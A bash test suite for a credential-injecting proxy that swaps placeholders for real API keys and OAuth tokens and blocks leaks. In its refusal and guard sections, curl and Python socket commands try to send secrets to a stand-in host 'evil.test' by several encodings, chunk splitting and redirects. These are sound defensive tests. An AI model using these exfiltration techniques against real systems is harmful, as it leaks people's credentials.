#!/usr/bin/env bash
# network.credentials in the proxy on its own (TAP): the records of --secrets-fd,
# injection (header, Bearer, Basic, query, added when missing), refusal of a
# placeholder sent where its binding does not go (header, URL, body, chunked
# body, split across chunks, a redirect, plain HTTP), the guard over real values
# and guard files (plain, base64, base64url, hex, percent-encoded, at any
# offset), the OAuth token exchange, and a 200 MiB body with bounded memory.
. "$SRC_ROOT/tests/lib.sh"
HERE="$SRC_ROOT/tests/proxy"
for t in curl python3 openssl; do
    command -v "$t" >/dev/null || skip_all "$t is not installed"
done
[ -x "$ASB_PROXY" ] || skip_all "no proxy binary at $ASB_PROXY"
: "${MKSECRETS:=$BUILD_ROOT/tests/proxy/mksecrets}"
[ -x "$MKSECRETS" ] || skip_all "no mksecrets at $MKSECRETS"
SANITIZED=$(grep -c __asan_init "$ASB_PROXY" 2>/dev/null || true)

cd "$TEST_TMP" || exit 1
make_test_pki api.test bear.test git.test q.test auth.test ng.test evil.test a.test moved.test ||
    skip_all "openssl could not make the test certificates"
export ASB_RECORD="$TEST_TMP/record" ASB_ORIGIN_LOG="$TEST_TMP/origin.log"
# Tokens keep their length across a refresh (as Claude's do): the placeholders stay.
tok() { printf '%s%s' "$1" "$(head -c 200 /dev/zero | tr '\0' "$2" | head -c $((70 - ${#1})))"; }
NEW_ACCESS=$(tok sk-ant-oat01-NEWREALACCESS n)
NEW_REFRESH=$(tok sk-ant-ort01-NEWREALREFRESH m)
export ASB_TOKEN_RESPONSE="{\"token_type\":\"Bearer\",\"access_token\":\"$NEW_ACCESS\",\"refresh_token\":\"$NEW_REFRESH\",\"expires_in\":28800,\"scope\":\"user:inference\"}"
python3 "$HERE/servers.py" ports srv.pem srv.key 2>servers.err &
at_exit "kill $! 2>/dev/null"
for _ in $(seq 100); do [ -s ports ] && break; sleep 0.1; done
read -r HP SP <ports || { echo "Bail out! the origin servers did not start"; exit 1; }
echo "127.0.0.1 api.test bear.test git.test q.test auth.test ng.test evil.test a.test" >hosts
echo "127.0.0.1:$SP moved.test" >>hosts # https://moved.test/ is the origin on $SP

P="ports = [ $HP, $SP ]; allow_private = true;"
cat >asb.cfg <<CFG
network: {
  allowed_domains = ( { domain = "test"; $P }, { domain = "moved.test"; allow_private = true; } );
  hosts_file = "hosts";
  upstream_ca_file = "upca.pem";
  credentials = (
    { name = "api"; value = "\${API_KEY}"; domains = [ "api.test" ]; paths = [ "/v1", "/record", "/headers" ];
      header = "x-api-key"; env = "API_KEY"; },
    { name = "bear"; value = "\${BEAR}"; domains = [ "bear.test" ]; bearer = true; env = "BEAR"; },
    { name = "gh"; value = "\${GH}"; domains = [ "git.test" ]; basic = "x-access-token"; add = true; },
    { name = "q"; value = "\${Q}"; domains = [ "q.test" ]; query = "key"; add = true; },
    { name = "claude"; oauth = "claude"; file = "creds.json"; domains = [ "auth.test" ]; },
    { name = "ng"; value = "\${NG}"; domains = [ "ng.test" ]; header = "x-token"; guard = false; env = "NG"; }
  );
};
CFG
# Real values, and placeholders as the launcher makes them (same shape and length).
API=sk-ant-api03-REALapiKEY0123456789abcdefghijklmnopqrstuvwxyz
API_PH=sk-ant-api03-PHldrAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA
BEAR=ghp_REALbearer0123456789abcdefghijklmnop
BEAR_PH=ghp_PHbearerAAAAAAAAAAAAAAAAAAAAAAAAAAAA
GH=ghp_REALgit+token/0123456789abcdefghijkl
GH_PH=ghp_PHgitAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA
Q=AIzaREALquery0123456789abcdefghijklmnopq
Q_PH=AIzaPHqueryAAAAAAAAAAAAAAAAAAAAAAAAAAAAA
ACC=$(tok sk-ant-oat01-OLDREALACCESS o)
ACC_PH=$(tok sk-ant-oat01-PHaccess A)
REF=$(tok sk-ant-ort01-OLDREALREFRESH r)
REF_PH=$(tok sk-ant-ort01-PHrefresh B)
NG=ng-REALnoguard-0123456789abcdef
NG_PH=ng-PHnoguardAAAAAAAAAAAAAAAAAAA
GUARD=guardfile-SECRET-0123456789xyz
printf '{"claudeAiOauth":{"accessToken":"%s","refreshToken":"%s","expiresAt":1,"scopes":["user:inference"]},"other":1}\n' \
    "$ACC" "$REF" >creds.json
records() {
    "$MKSECRETS" asb.cfg "api=$API=$API_PH" "bear=$BEAR=$BEAR_PH" "gh=$GH=$GH_PH" "q=$Q=$Q_PH" \
        "claude=$ACC=$ACC_PH" "R:claude=$REF=$REF_PH" "F:claude=$TEST_TMP/creds.json" \
        "ng=$NG=$NG_PH" "G=$GUARD"
}
for v in ACC ACC_PH REF REF_PH NEW_ACCESS NEW_REFRESH; do
    [ ${#ACC} = "$(eval 'echo ${#'$v'}')" ] || { echo "Bail out! $v is not as long as ACC"; exit 1; }
done
REALS=("$API" "$BEAR" "$GH" "$Q" "$ACC" "$REF" "$GUARD" "$NEW_ACCESS" "$NEW_REFRESH")

# --- the records are checked -----------------------------------------------------
err=$("$ASB_PROXY" --config asb.cfg --check 2>&1)
ok $? "--check accepts the credentials ($err)"
"$MKSECRETS" asb.cfg "api=$API=$API_PH" | head -c 60 >trunc
out=$("$ASB_PROXY" --config asb.cfg --listen 127.0.0.1:0 --secrets-fd 3 3<trunc 2>&1)
ok $([ $? -eq 2 ] && grep -q "truncated or malformed" <<<"$out"; echo $?) "truncated records: the proxy refuses to start ($out)"
sed 's/domains = \[ "api.test" \]/domains = [ "api.test", "evil.test" ]/' asb.cfg >changed.cfg
"$MKSECRETS" asb.cfg "api=$API=$API_PH" >recs
out=$("$ASB_PROXY" --config changed.cfg --listen 127.0.0.1:0 --secrets-fd 3 3<recs 2>&1)
ok $([ $? -eq 2 ] && grep -q 'not the config.s "api"' <<<"$out"; echo $?) "a binding that changed since the launcher read it: refused ($out)"

# --- start it -----------------------------------------------------------------------
mkfifo ready
"$ASB_PROXY" --config asb.cfg --listen 127.0.0.1:0 --ca-out ca.pem --log proxy.log \
    --ready-fd 4 --secrets-fd 3 3< <(records) 4>ready 2>proxy.err &
PROXY=$!
at_exit "kill $PROXY 2>/dev/null"
read -r -t 10 -n 1 _ <ready
ok $? "the proxy started with the records"
PP=$(sed -n 's/.*proxy: listening on 127.0.0.1:\([0-9]*\)$/\1/p' proxy.log)
leak=0
for r in "$API" "$BEAR" "$GH" "$Q" "$ACC" "$REF" "$NG" "$GUARD"; do
    grep -qaF -- "$r" "/proc/$PROXY/cmdline" "/proc/$PROXY/environ" 2>/dev/null && leak=1
done
ok $leak "no real value on the proxy's command line or in its environment"
if [ "$(id -u)" = 0 ]; then
    skip "the proxy is not dumpable: not visible to root"
else
    # A process that is not dumpable has the files of its /proc entry owned by root.
    ok $([ "$(stat -c %u "/proc/$PROXY/environ")" = 0 ] && ! cat "/proc/$PROXY/environ" >/dev/null 2>&1; echo $?) \
        "the proxy is not dumpable (no other process of the user reads its memory)"
fi

X="http://127.0.0.1:$PP"
C() { curl -sS --max-time 20 -x "$X" --cacert ca.pem "$@"; }
code() { C -o /dev/null -w '%{http_code}' "$@" 2>/dev/null; }
blocked() { grep -qF "blocked: $1" proxy.log; }
recorded() { grep -caF -- "$1" record 2>/dev/null; }
: >record

ok $([ "$(C "https://moved.test/hello")" = hello ]; echo $?) "hosts_file ADDRESS:PORT: https://moved.test/ is dialled on that port"

# --- injection ------------------------------------------------------------------------
out=$(C -H "x-api-key: $API_PH" "https://api.test:$SP/headers")
ok $(grep -qi "^x-api-key: $API\$" <<<"$out"; echo $?) "header: the placeholder is replaced by the real value"
ok $(grep -qF "injected: api into GET api.test:$SP/headers" proxy.log; echo $?) "proxy.log: injected: api into GET api.test/headers"
out=$(C -H "Authorization: Bearer $BEAR_PH" "https://bear.test:$SP/headers")
ok $(grep -qi "^authorization: Bearer $BEAR\$" <<<"$out"; echo $?) "bearer: Authorization: Bearer <real>"
out=$(C "https://git.test:$SP/headers")
want=$(printf 'x-access-token:%s' "$GH" | base64 -w0)
ok $(grep -qi "^authorization: Basic $want\$" <<<"$out"; echo $?) "basic, add = true: added to a request that had none"
out=$(C -u "x-access-token:$GH_PH" "https://git.test:$SP/headers")
ok $(grep -qi "^authorization: Basic $want\$" <<<"$out"; echo $?) "basic: the placeholder inside Basic credentials is replaced"
C "https://q.test:$SP/record?a=1&key=$Q_PH" >/dev/null
ok $([ "$(recorded "GET /record?a=1&key=$Q HTTP/1.1")" = 1 ]; echo $?) "query: ?key=<placeholder> becomes the real value"
C "https://q.test:$SP/record?a=2" >/dev/null
ok $([ "$(recorded "GET /record?a=2&key=$Q HTTP/1.1")" = 1 ]; echo $?) "query, add = true: the parameter is added"
out=$(C -H "x-token: $NG_PH" "https://ng.test:$SP/headers")
ok $(grep -qi "^x-token: $NG\$" <<<"$out"; echo $?) "guard = false: injected all the same"

# --- a placeholder where its binding does not go ---------------------------------------
: >record
check_refused() { # description, code, log, curl args...
    local d=$1 c=$2 l=$3
    shift 3
    local got
    got=$(code "$@")
    ok $([ "$got" = "$c" ] && blocked "$l"; echo $?) "$d ($got)"
}
check_refused "header to an unbound host: 403, logged" 403 "GET evil.test:$SP/headers (credential for api.test)" \
    -H "x-api-key: $API_PH" "https://evil.test:$SP/headers"
check_refused "in the URL's query" 403 "GET (withheld) (credential for bear.test)" "https://evil.test:$SP/record?t=$BEAR_PH"
check_refused "in the URL's path, percent-encoded" 403 "GET (withheld) (credential for bear.test)" \
    "https://evil.test:$SP/x/$(sed 's/_/%5F/' <<<"$BEAR_PH")"
check_refused "in a POST body" 403 "POST evil.test:$SP/record (credential for api.test)" \
    -d "{\"key\":\"$API_PH\"}" "https://evil.test:$SP/record"
check_refused "in a chunked body" 403 "POST evil.test:$SP/record (credential for api.test)" \
    -H "Transfer-Encoding: chunked" -d "k=$API_PH" "https://evil.test:$SP/record"
check_refused "base64 in a body (Basic to another host)" 403 "GET evil.test:$SP/headers (credential for git.test)" \
    -u "x-access-token:$GH_PH" "https://evil.test:$SP/headers"
check_refused "to the bound host, under a path it does not cover" 403 "GET api.test:$SP/other (credential for api.test)" \
    -H "x-api-key: $API_PH" "https://api.test:$SP/other"
check_refused "over plain HTTP to the bound host" 403 "GET api.test:$HP/headers (credential api over plain HTTP)" \
    -H "x-api-key: $API_PH" "http://api.test:$HP/headers"
check_refused "over plain HTTP elsewhere" 403 "POST evil.test:$HP/record (credential for api.test)" \
    -d "$API_PH" "http://evil.test:$HP/record"
check_refused "a redirect from the bound host to another: the follow-up is refused" 403 \
    "GET evil.test:$SP/record (credential for bear.test)" \
    -L --location-trusted -H "Authorization: Bearer $BEAR_PH" \
    "https://bear.test:$SP/redirect?to=https://evil.test:$SP/record"
check_refused "CONNECT to a name holding a placeholder (in lower case)" 000 \
    "CONNECT (withheld) (credential for api.test)" "https://$(tr 'A-Z' 'a-z' <<<"$API_PH").evil.test:$SP/"
# Split across two chunks, in pieces: the guard reads the body, not the framing.
cat >split.py <<'PY'
import socket, ssl, sys, time
pp, host, port, ca, a, b = sys.argv[1:7]
s = socket.create_connection(("127.0.0.1", int(pp)), timeout=10)
s.sendall(b"CONNECT %s:%s HTTP/1.1\r\nHost: %s:%s\r\n\r\n" % (host.encode(), port.encode(), host.encode(), port.encode()))
buf = b""
while b"\r\n\r\n" not in buf:
    buf += s.recv(1)
t = ssl.create_default_context(cafile=ca).wrap_socket(s, server_hostname=host)
t.sendall(b"POST /record HTTP/1.1\r\nHost: %s:%s\r\nTransfer-Encoding: chunked\r\n\r\n" % (host.encode(), port.encode()))
for part in (a, b):
    d = part.encode()
    t.sendall(b"%x\r\n" % len(d))
    time.sleep(0.2)
    t.sendall(d + b"\r\n")
    time.sleep(0.2)
t.sendall(b"0\r\n\r\n")
print(t.recv(4096).split(b"\r\n")[0].decode())
PY
half=$((${#API_PH} / 2))
out=$(python3 split.py "$PP" evil.test "$SP" ca.pem "x=${API_PH:0:$half}" "${API_PH:$half}&y=1" 2>&1)
ok $([[ "$out" == "HTTP/1.1 403"* ]] && [ "$(recorded "${API_PH:0:$half}")" = 0 ]; echo $?) \
    "a placeholder split across two chunks, sent in pieces: refused, and no part of it reached the server ($out)"
ok $(! grep -qaF "$API_PH" record; echo $?) "the unbound server never saw a placeholder"

# --- the guard: real values and guard files, plain and encoded -------------------------
guarded() { # description, body
    local got
    got=$(code --data-binary "$2" "https://api.test:$SP/v1/x")
    ok $([ "$got" = 403 ]; echo $?) "guard: $1 ($got)"
}
b64() { printf '%s' "$1" | base64 -w0; }
guarded "the real value in a body" "k=$API"
guarded "base64" "$(b64 "$API")"
guarded "base64 at offset 1" "$(b64 "x$API")"
guarded "base64 at offset 2" "$(b64 "xy$API")"
guarded "base64url" "$(b64 "$GH" | tr '+/' '-_')"
guarded "hex" "$(printf '%s' "$API" | od -An -tx1 | tr -d ' \n')"
guarded "HEX" "$(printf '%s' "$API" | od -An -tx1 | tr -d ' \n' | tr a-f A-F)"
guarded "percent-encoded" "$(python3 -c 'import sys, urllib.parse; print(urllib.parse.quote(sys.argv[1], safe=""))' "$GH")"
guarded "a guard file's secret" "x=$GUARD"
guarded "a guard file's secret, base64" "$(b64 "$GUARD")"
ok $(blocked "POST api.test:$SP/v1/x (the real value of credential api)" &&
    blocked "POST api.test:$SP/v1/x (a secret from guard_files)"; echo $?) "logged as the real value of credential api / a secret from guard_files"
check_refused "guard: the real value in a header, to the bound host" 403 "GET api.test:$SP/headers (the real value of credential api)" \
    -H "x-other: $API" "https://api.test:$SP/headers"
ok $([ "$(code -d "x=$NG" "https://a.test:$SP/echo")" = 200 ]; echo $?) "guard = false: that binding's real value is not refused"
ok $([ "$(code -d "just text" "https://a.test:$SP/echo")" = 200 ]; echo $?) "a body without secrets passes"
# A secret at the end of a large body: nothing of it reaches the server.
head -c 3000000 /dev/zero | tr '\0' a >big
printf '%s' "$API" >>big
: >record
got=$(code -H "Content-Type: application/octet-stream" --data-binary @big "https://evil.test:$SP/record")
ok $([ "$got" = 403 ] || [ "$got" = 000 ]; echo $?) "a secret after 3 MB of body: refused ($got)"
sleep 0.5
ok $(! grep -qaF "${API:0:12}" record; echo $?) "not even its first bytes reached the server"

# --- the OAuth token exchange -----------------------------------------------------------
: >record
out=$(C -H "Content-Type: application/json" -d "{\"grant_type\":\"refresh_token\",\"refresh_token\":\"$REF_PH\",\"client_id\":\"x\"}" \
    "https://auth.test:$SP/v1/oauth/token")
ok $([ "$(recorded "\"refresh_token\":\"$REF\"")" = 1 ]; echo $?) "oauth: the token endpoint gets the real refresh token"
ok $(grep -qi '^accept-encoding: identity' record; echo $?) "oauth: and is asked for an uncompressed answer"
new_acc=$(python3 -c 'import json,sys; print(json.loads(sys.argv[1])["access_token"])' "$out" 2>/dev/null)
new_ref=$(python3 -c 'import json,sys; print(json.loads(sys.argv[1])["refresh_token"])' "$out" 2>/dev/null)
ok $([ -n "$new_acc" ] && [ "$new_acc" = "$ACC_PH" ] && [ "$new_ref" = "$REF_PH" ] &&
    ! grep -qF "$NEW_ACCESS" <<<"$out" && ! grep -qF "$NEW_REFRESH" <<<"$out"; echo $?) \
    "oauth: the client gets placeholders back, not the new tokens ($out)"
ok $(python3 -c '
import json, sys
d = json.load(open("creds.json"))["claudeAiOauth"]
sys.exit(0 if d["accessToken"] == sys.argv[1] and d["refreshToken"] == sys.argv[2] and d["expiresAt"] > 1e12 and d["scopes"] == ["user:inference"] else 1)
' "$NEW_ACCESS" "$NEW_REFRESH" && grep -q '"other":1' creds.json; echo $?) "oauth: the host's file holds the new tokens (the rest as it was)"
: >record
C -H "Authorization: Bearer $ACC_PH" "https://auth.test:$SP/record" >/dev/null
ok $([ "$(recorded "$NEW_ACCESS")" = 1 ]; echo $?) "oauth: after the refresh the same placeholder brings the new access token"
ok $([ "$(code -d "t=$NEW_ACCESS" "https://a.test:$SP/echo")" = 403 ] &&
    [ "$(code -d "t=$ACC" "https://a.test:$SP/echo")" = 403 ]; echo $?) "oauth: the new tokens, and the old ones, are guarded"

# A login inside (an authorization-code exchange, no refresh placeholder): the
# agent gets placeholders, but the host's login is not replaced by it.
cp creds.json creds.before
out=$(C -H "Content-Type: application/json" -d '{"grant_type":"authorization_code","code":"abc","code_verifier":"xyz"}' \
    "https://auth.test:$SP/v1/oauth/token")
ok $(! grep -qF -e "$NEW_ACCESS" -e "$NEW_REFRESH" <<<"$out" && grep -q '"access_token":"sk-ant-oat01-' <<<"$out" &&
    cmp -s creds.json creds.before; echo $?) "oauth: a login inside gets placeholders and leaves the host's file alone"

# --- bounded memory on a streamed body --------------------------------------------------
rss0=$(awk '/VmRSS/ { print $2 }' "/proc/$PROXY/status")
sum=$(head -c 209715200 /dev/zero | tee >(sha256sum | cut -d' ' -f1 >big.sum) |
    C -H "Content-Type: application/octet-stream" -T - -X POST "https://a.test:$SP/echo")
sleep 0.2
hwm=$(awk '/VmHWM/ { print $2 }' "/proc/$PROXY/status")
ok $([ "$sum" = "209715200 $(cat big.sum)" ]; echo $?) "a 200 MiB body streams through the guard intact"
if [ "$SANITIZED" -gt 0 ]; then
    # ASan keeps freed memory in quarantine (OpenSSL frees and allocates its record
    # buffers all the time): RSS says nothing there.
    skip "bounded memory: not measurable under AddressSanitizer (peak RSS $hwm KiB)"
else
    ok $([ "$hwm" -lt $((rss0 + 16384)) ]; echo $?) "... with bounded memory (peak RSS $hwm KiB, $rss0 KiB before)"
fi
sum=$(head -c 52428800 /dev/zero | C -T - -X POST "http://a.test:$HP/echo")
ok $([ "${sum%% *}" = 52428800 ]; echo $?) "a 50 MiB body over plain HTTP too (the guard reads what it would splice)"

# --- nothing of a real value in the log --------------------------------------------------
leak=0
for r in "${REALS[@]}"; do grep -qaF -- "$r" proxy.log proxy.err && leak=1; done
ok $leak "proxy.log holds no real value"
kill -TERM $PROXY
wait $PROXY
ok $? "the proxy exits cleanly"
done_testing
